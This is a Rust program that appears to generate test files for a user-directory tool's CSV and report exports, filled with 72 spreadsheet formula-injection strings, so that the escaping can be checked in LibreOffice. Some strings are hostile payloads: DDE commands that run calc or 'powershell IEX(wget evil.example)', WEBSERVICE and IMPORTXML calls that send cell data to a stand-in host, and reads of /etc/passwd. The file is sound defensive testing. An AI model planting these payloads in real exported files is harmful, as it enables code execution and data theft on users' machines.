//! Writes every kind of file that a spreadsheet program may open, with cells that attempt formula injection, into a directory,
//! and the expected cells of each as JSON. `make check-csv` opens them in LibreOffice.

use std::{env, error::Error, fs, path::Path, sync::Arc};

use serde_json::json;
use wallaroo_directory::{
    Directory,
    compare::{CompareOptions, ListTable, compare, unknown_as_csv},
    export::{Format, export},
    guard::Change,
    journal::{EntryKind, EntryOutcome, Journal, to_csv},
    run::{Run, report_as_csv, report_as_text},
    user::{Moment, Record, UserId},
};
use wallaroo_review::{Decision, Evidence, Review, ReviewEntry, review_as_csv};

/// Names that attempt formula injection or need escaping.
const NAMES: [&str; 72] = [
    "=1+1",
    "=SUM(A1:A9)",
    "=A1",
    "=\"a\"&\"b\"",
    "=HYPERLINK(\"http://evil.example\",\"click\")",
    "=WEBSERVICE(\"http://evil.example\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget evil.example)'!A0",
    "=DDE(\"soffice\",\"/etc/passwd\",\"A1\")",
    "='file:///etc/passwd'#$passwd.A1",
    "=INFO(\"system\")",
    "=CELL(\"filename\")",
    "+1",
    "+1+cmd|' /C calc'!A0",
    "+A1",
    "+49 30 1234",
    "-1",
    "-2+3",
    "-2+3+cmd|' /C calc'!D2",
    "-A1",
    "--1",
    "@SUM(1+1)",
    "@A1",
    "@ada",
    "=",
    "+",
    "-",
    "@",
    "==",
    "=-1",
    "+-1",
    " =1+1",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u{a0}=1+1",
    "\u{200b}=1+1",
    "\u{feff}=1+1",
    "\u{2003}+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    "\"=1+1",
    "\"=1+1\"",
    "=1+1\"",
    "a\"=1+1",
    "a,=1+1",
    "a;=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "a\r\n=1+1",
    "a\",=1+1,\"b",
    ",=1+1",
    ";=1+1",
    "x\n\"=1+1\"\ny",
    "{=1+1}",
    "Ada \"the Countess\" Lovelace",
    "Zoë 🚀 O’Neil",
    "אבג =1+1",
    "e\u{301}=1",
    "sep=;",
    "ID",
    "a=1+1",
    "a  b",
    "100 %",
    "of:=1+1",
    "msoxl:=1+1",
];

fn main() -> Result<(), Box<dyn Error>> {
    let directory = env::args().nth(1).ok_or("usage: spreadsheet DIRECTORY")?;
    let directory = Path::new(&directory);
    fs::create_dir_all(directory)?;

    let record = |(number, name): (usize, &&str)| {
        let user = json!({"id": format!("id{number}"), "username": name, "firstName": name, "enabled": true});
        Record::decode(&format!("id{number}"), &user.to_string())
    };
    let list = Directory::new(NAMES.iter().enumerate().map(record).collect());
    let ids: Vec<UserId> = list.records().map(|record| record.id().clone()).collect();
    write(directory, "users.csv", &export(&list, &ids, Format::Csv), b',')?;

    let mut run = Run::changes(Change::Deactivate, &ids, &list, None);
    run.cancel();
    write(directory, "report.csv", &report_as_csv(&run.report()), b',')?;
    write(directory, "report.txt", &report_as_text(&run.report()), b'\t')?;
    write(
        directory,
        "review-report.csv",
        &review_as_csv(&reviewed(&list, &ids), &list),
        b',',
    )?;
    let mut journal = Journal::default();
    for name in NAMES {
        let (kind, outcome) = (EntryKind::Invitation, EntryOutcome::Failed(name.to_owned()));
        journal.record(name.to_owned(), None, kind, Moment(0), outcome);
    }
    write(directory, "journal.csv", &to_csv(&journal), b',')?;
    write(directory, "compared.csv", &unknown_people(), b',')?;
    Ok(())
}

/// A review in which each of the names is a note, and the one who decided.
fn reviewed(list: &Directory, ids: &[UserId]) -> Review {
    let mut review = Review::new("r".into(), "=1+1".into(), Moment(0), ids, list);
    for (id, name) in ids.iter().zip(NAMES) {
        let Some(evidence) = Evidence::of(list, id) else {
            continue;
        };
        let (note, by) = (name.to_owned(), name.to_owned());
        let entry = ReviewEntry {
            at_ms: 1_700_000_000_000,
            decision: Decision::Keep,
            note,
            by,
            evidence,
            settles_until_ms: None,
        };
        review.decide(id, entry);
    }
    review
}

/// Each of the names as a person on a list, where nobody is known.
fn unknown_people() -> String {
    let nobody = Directory::new(Vec::new());
    let quoted = |name: &str| ["\"", &name.replace('"', "\"\""), "\"\n"].concat();
    let table = ListTable::parse(&["email\n", &NAMES.map(quoted).concat()].concat(), &nobody);
    let people = Arc::new(table.people(table.chosen()));
    let comparison = compare(&people, &nobody, &CompareOptions::default());
    unknown_as_csv(&comparison.unknown, &nobody)
}

/// Writes the file, and the cells in it as an RFC 4180 reader returns them.
fn write(directory: &Path, name: &str, text: &str, separator: u8) -> Result<(), Box<dyn Error>> {
    fs::write(directory.join(name), text)?;
    let mut reader = csv::ReaderBuilder::new();
    let reader = reader.has_headers(false).delimiter(separator);
    let mut rows: Vec<Vec<String>> = Vec::new();
    for row in reader.quoting(separator == b',').from_reader(text.as_bytes()).records() {
        rows.push(row?.iter().map(str::to_owned).collect());
    }
    fs::write(directory.join([name, ".json"].concat()), json!(rows).to_string())?;
    Ok(())
}
